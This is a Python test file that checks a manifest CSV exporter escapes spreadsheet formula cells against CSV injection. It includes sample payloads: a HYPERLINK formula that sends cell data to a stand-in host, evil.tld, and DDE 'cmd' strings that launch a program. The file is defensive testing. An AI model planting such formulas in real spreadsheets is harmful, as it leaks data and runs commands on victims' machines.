"""CSV written for spreadsheets never carries a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv

import pyarrow as pa

from manifests import schema
from manifests.ops.export import export
from manifests.ops.export.csv import CSV_FORMULA_START, csv_safe_table
from tests.manifests.conftest import make_records

EVIL = ["=HYPERLINK(\"http://evil.tld/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1"]


def test_export_csv_escapes_formula_cells(tmp_path):
    recs = make_records(tmp_path, len(EVIL), images=False)
    for rec, evil in zip(recs, EVIL):
        rec["text"] = evil
        rec["attribution"] = evil
    recs[0]["text"] = "No acute findings = normal"        # '=' later in the text: untouched
    path = tmp_path / "m.csv"
    export(schema.from_records(recs), path)
    rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    for row, evil in zip(rows, EVIL):
        assert row["attribution"] == "'" + evil
        assert not row["attribution"].startswith(CSV_FORMULA_START)
    assert rows[0]["text"] == "No acute findings = normal"
    assert rows[1]["text"] == "'" + EVIL[1]


def test_csv_safe_table_for_whole_table_writers():
    t = csv_safe_table(pa.table({"a": ["=1", "ok", None, "-x"], "n": [1, -2, 3, 4]}))
    assert t.column("a").to_pylist() == ["'=1", "ok", None, "'-x"] and t.column("n").to_pylist() == [1, -2, 3, 4]
